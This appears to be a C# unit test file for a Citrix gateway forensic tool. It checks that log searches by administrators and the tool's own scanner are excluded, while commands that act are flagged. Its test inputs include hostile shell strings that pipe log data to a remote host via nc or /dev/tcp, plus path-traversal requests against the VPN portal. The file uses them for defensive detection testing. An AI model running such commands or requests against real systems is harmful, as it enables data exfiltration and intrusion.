using System;
using System.Linq;
using CitrixOps.Investigation;
using Xunit;

namespace CitrixOps.Tests.Investigation.Exclusions;

/// <summary>What scanners and administrators leave does not count, and nobody can hide behind it.</summary>
public sealed class OwnTracesTests : IDisposable
{
    private readonly TemporaryFolder _folder = new();
    private readonly Problems _problems = new();

    public void Dispose() => _folder.Dispose();

    [Theory]
    [InlineData("root", "grep -E 'uname -a|185.178.45.221' /var/log/bash.log")]
    [InlineData("root", "zgrep 185.178.45.221 /var/log/bash.log.0.gz | wc -l")]
    [InlineData("nsroot", "grep -l 185.178.45.221 /var/log/messages 2>/dev/null")]
    [InlineData("root", "/usr/bin/find /var/log -name 185.178.45.221 -type f")]
    [InlineData("root", "test -f /var/tmp/x && grep 185.178.45.221 /var/log/cron")]
    public void A_command_that_only_looks_is_excluded(string user, string command)
    {
        var result = Shell(user, command);

        Assert.Empty(result.Findings);
        Assert.Contains(result.Excluded, e => e.Reason.StartsWith("shell commands that only look", StringComparison.Ordinal) && e.Count >= 1);
    }

    [Theory]
    [InlineData("nobody", "grep 185.178.45.221 /var/log/messages")]
    [InlineData("root", "fetch http://185.178.45.221/x")]
    [InlineData("root", "grep x /var/log/bash.log; fetch 185.178.45.221")]
    [InlineData("root", "grep x /var/log/bash.log | nc 185.178.45.221 80")]
    [InlineData("root", "grep x /var/log/bash.log & fetch 185.178.45.221")]
    [InlineData("root", "grep `fetch 185.178.45.221` /var/log/bash.log")]
    [InlineData("root", "grep \"$(fetch 185.178.45.221)\" /var/log/bash.log")]
    [InlineData("root", "find / -name x -exec fetch 185.178.45.221 ;")]
    [InlineData("root", "/tmp/grep x 185.178.45.221")]
    [InlineData("root", "grep x /var/log/bash.log > /dev/tcp/185.178.45.221/80")]
    [InlineData("root", "grep passphrase /nsconfig/ns.conf 185.178.45.221")]
    public void A_command_that_acts_counts_whatever_it_pretends(string user, string command) => Assert.NotEmpty(Shell(user, command).Findings);

    [Theory]
    [InlineData("203.0.113.9", true)]
    [InlineData("203.0.113.0/24", true)]
    [InlineData("203.0.113.8", false)]
    public void Attempts_of_an_own_scanner_are_excluded(string scanner, bool excluded)
    {
        var result = Access("GET /vpn/../vpns/cfg/smb.conf HTTP/1.1", 403, scanner);

        Assert.Equal(excluded, result.Findings.Count == 0);
        Assert.Equal(excluded, result.Excluded.Any(e => e.Reason.Contains("own scanner", StringComparison.Ordinal)));
    }

    [Fact]
    public void A_success_from_an_own_scanners_address_counts() =>
        Assert.Contains(Access("GET /vpn/../vpns/portal/kq3tbmwx.xml HTTP/1.1", 200, "203.0.113.9").Findings, f => f.Outcome == CitrixOps.Indicators.Outcome.Success);

    [Fact]
    public void Each_verdict_has_its_exit_code() => Assert.Equal(
        [0, 2, 3, 4],
        new[] { InvestigationVerdict.NoTrace, InvestigationVerdict.Attempted, InvestigationVerdict.Inconclusive, InvestigationVerdict.Compromised }.Select(v => new CitrixOps.Investigation.Investigation { Verdict = v }.ExitCode));

    private CitrixOps.Investigation.Investigation Shell(string user, string command) =>
        Shipped.Search(_problems, new InvestigationOptions { Since = DateTimeOffset.UnixEpoch }, _folder.File("bash.log", $"Jan 16 09:00:00 <local7.notice> gw bash[7]: {user} on /dev/pts/0 shell_command=\"{command}\"\n")).Single();

    private CitrixOps.Investigation.Investigation Access(string request, int status, string scanner) =>
        Shipped.Search(_problems, new InvestigationOptions { Since = DateTimeOffset.UnixEpoch, ScannerAddresses = [scanner] }, _folder.File("httpaccess.log", $"203.0.113.9 - - [12/Jan/2020:03:14:07 +0100] \"{request}\" {status} 12 \"-\" \"x\"\n")).Single();
}
